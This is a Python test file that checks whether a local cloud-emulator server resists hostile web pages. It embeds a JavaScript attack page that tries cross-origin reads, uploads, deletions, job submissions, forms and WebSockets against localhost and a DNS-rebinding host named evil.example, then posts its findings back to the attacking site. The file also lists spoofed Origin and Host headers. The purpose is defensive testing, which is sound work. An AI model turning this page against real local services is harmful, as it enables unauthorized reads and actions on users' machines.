"""Web pages that try to use local mode behind its user's back, in a real browser and without."""

from __future__ import annotations

import http.server
import json
import queue
import shutil
import subprocess
import threading
from collections.abc import Callable, Iterator
from pathlib import Path
from urllib.parse import urlsplit

import pytest
import requests
from google.cloud import storage

from vertex_local.config import ServerRecord

JOBS = "/v1/projects/vertex-local/locations/us-central1/customJobs"
BROWSER = next(
    filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None
)
LIMIT_SECONDS = 100

# Everything that a page may send without being asked: it reports what it could read.
PAGE = """<!DOCTYPE html><body><script>
const [bucket, storage, api] = %s, report = {};
const job = '{"displayName": "evil", "jobSpec": {}}';
async function attempt(name, work) {
  try { report[name] = String(await work()); } catch (error) { report[name] = "refused"; }
}
function element(kind, source) {
  return new Promise((done) => {
    const made = document.createElement(kind);
    made.onload = () => done("loaded");
    made.onerror = () => done("refused");
    made.src = source;
    document.body.append(made);
  });
}
function form(action, text) {
  return new Promise((done) => {
    const frame = document.createElement("iframe");
    frame.name = "frame" + Math.random();
    document.body.append(frame);
    const made = document.createElement("form");
    Object.assign(made, {action, method: "POST", enctype: "text/plain", target: frame.name});
    const field = document.createElement("input");
    Object.assign(field, {name: text, value: ""});
    made.append(field);
    document.body.append(made);
    frame.onload = () => done("sent");
    made.submit();
  });
}
async function main() {
  for (const host of ["127.0.0.1", "localhost", location.hostname]) {
    const [s, a] = [storage, api].map((port) => `http://${host}:${port}`);
    const upload = `${s}/upload/storage/v1/b/${bucket}/o?uploadType=media&name=evil`;
    const secret = `${s}/storage/v1/b/${bucket}/o/secret`;
    const jobs = a + "%s", open = {mode: "no-cors", credentials: "include"};
    await attempt(host + " read", async () => (await fetch(secret + "?alt=media")).text());
    await attempt(host + " list", async () => (await fetch(`${s}/storage/v1/b`)).text());
    await attempt(host + " script", () => element("script", `${s}/storage/v1/b?alt=json`));
    await attempt(host + " image", () => element("img", secret + "?alt=media"));
    await attempt(host + " delete", () => fetch(secret, {method: "DELETE"}));
    await attempt(host + " jobs", async () => (await fetch(jobs)).text());
    await attempt(host + " post", async () => {
      await fetch(upload, {...open, method: "POST", body: "evil"});
      await fetch(jobs, {...open, method: "POST", body: job});
      navigator.sendBeacon(upload, "evil");
    });
    await attempt(host + " form", async () => {
      await form(upload, "evil");
      await form(jobs, job);
    });
    await attempt(host + " socket", () => new Promise((done) => {
      const socket = new WebSocket(s.replace("http", "ws") + "/storage/v1/b");
      socket.onopen = () => done("opened");
      socket.onerror = () => done("refused");
    }));
  }
  await fetch("/report", {method: "POST", body: JSON.stringify(report)});
}
main();
</script></body>"""


class Site(http.server.ThreadingHTTPServer):
    """The site of somebody else: serves one page, and keeps what pages send to it."""

    daemon_threads = True

    def __init__(self) -> None:
        super().__init__(("127.0.0.1", 0), Visitor)
        self.page = ""
        self.received: queue.Queue[tuple[str, str]] = queue.Queue()

    @property
    def port(self) -> int:
        return int(self.server_address[1])


class Visitor(http.server.BaseHTTPRequestHandler):
    """Lets everybody do everything: what a server must not be like."""

    server: Site

    def do_GET(self) -> None:
        self._answer(self.server.page if self.path == "/" else "not secret")

    def do_POST(self) -> None:
        body = self.rfile.read(int(self.headers["Content-Length"])).decode()
        self.server.received.put((self.path, body))
        self._answer("")

    def _answer(self, text: str) -> None:
        self.send_response(200)
        self.send_header("Access-Control-Allow-Origin", self.headers.get("Origin", "*"))
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Length", str(len(text)))
        self.end_headers()
        self.wfile.write(text.encode())

    def log_message(self, *_: object) -> None:
        pass


@pytest.fixture
def site() -> Iterator[Site]:
    with Site() as site:
        thread = threading.Thread(target=site.serve_forever)
        thread.start()
        yield site
        site.shutdown()
        thread.join()


@pytest.fixture
def visit(site: Site, tmp_path: Path) -> Iterator[Callable[[str, str, str], dict[str, str]]]:
    """Open a hostile page in a browser; give what it reports."""
    if BROWSER is None:
        pytest.skip("no Chromium is installed; the requests are also sent without a browser")
    browsers = []

    def visit(bucket: str, storage_place: str, api_port: str) -> dict[str, str]:
        site.page = PAGE % (json.dumps([bucket, storage_place, api_port]), JOBS)
        # The name of a foreign host that was made to point here, as in an attack by DNS rebinding.
        address = f"http://evil.example:{site.port}/"
        options = ["--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"]
        options += ["--disable-dev-shm-usage", f"--user-data-dir={tmp_path}"]
        options += ["--host-resolver-rules=MAP evil.example 127.0.0.1", "--no-proxy-server"]
        browsers.append(
            subprocess.Popen(
                [str(BROWSER), *options, address],
                stdout=subprocess.DEVNULL,
                stderr=subprocess.DEVNULL,
            )
        )
        while (got := site.received.get(timeout=LIMIT_SECONDS))[0] != "/report":
            sent.append(got)
        return json.loads(got[1])

    sent: list[tuple[str, str]] = []
    visit.sent = sent  # type: ignore[attr-defined]
    yield visit
    for browser in browsers:
        browser.kill()
        browser.wait()


def test_no_page_in_a_browser_reads_or_changes_anything(
    server: ServerRecord,
    bucket: storage.Bucket,
    visit: Callable[[str, str, str], dict[str, str]],
) -> None:
    bucket.blob("secret").upload_from_string("secret")
    token = {"Authorization": f"Bearer {server.token}"}
    before = requests.get(server.api_url + JOBS, headers=token, timeout=30).json()
    storage_place = server.storage_url.rpartition(":")[2]  # even a page that knows the secret
    report = visit(bucket.name, storage_place, str(urlsplit(server.api_url).port))
    assert len(report) == 3 * 9
    blind = {"undefined"}  # what was sent without a look at the answer
    assert {text for name, text in report.items()} <= {"refused", *blind}, report
    assert [blob.name for blob in bucket.list_blobs()] == ["secret"]
    assert requests.get(server.api_url + JOBS, headers=token, timeout=30).json() == before


def test_the_same_page_breaks_into_a_server_that_does_not_look(
    site: Site, visit: Callable[[str, str, str], dict[str, str]]
) -> None:
    report = visit("any", str(site.port), str(site.port))
    for host in ("127.0.0.1", "localhost", "evil.example"):
        assert report[f"{host} read"] == report[f"{host} jobs"] == "not secret"
        assert report[f"{host} script"] == "loaded"
    sent = [path.partition("?")[0] for path, _ in visit.sent]  # type: ignore[attr-defined]
    assert sent.count("/upload/storage/v1/b/any/o") >= 3 * 2 and sent.count(JOBS) == 3 * 2


PAGES = [
    {"Origin": "https://example.org"},
    {"Origin": "null"},  # a page from a file, or in a sandbox
    {"Sec-Fetch-Site": "cross-site", "Sec-Fetch-Mode": "no-cors"},
    {"Sec-Fetch-Site": "same-site"},  # a page of another port of this machine
    {"Host": "evil.example"},
    {"Host": "127.0.0.1.evil.example"},
    {"Referer": "http://evil.example/"},
]


@pytest.mark.parametrize("headers", PAGES, ids=str)
def test_no_page_starts_a_job_even_with_the_token(
    server: ServerRecord, headers: dict[str, str]
) -> None:
    token = {"Authorization": f"Bearer {server.token}"}
    before = requests.get(server.api_url + JOBS, headers=token, timeout=30).json()
    for method, path in (("POST", JOBS), ("POST", f"{JOBS}/1:cancel"), ("DELETE", f"{JOBS}/1")):
        answer = requests.request(
            method, server.api_url + path, data="{}", headers={**token, **headers}, timeout=30
        )
        assert answer.status_code == 403, answer.text
    assert requests.get(server.api_url + JOBS, headers=token, timeout=30).json() == before
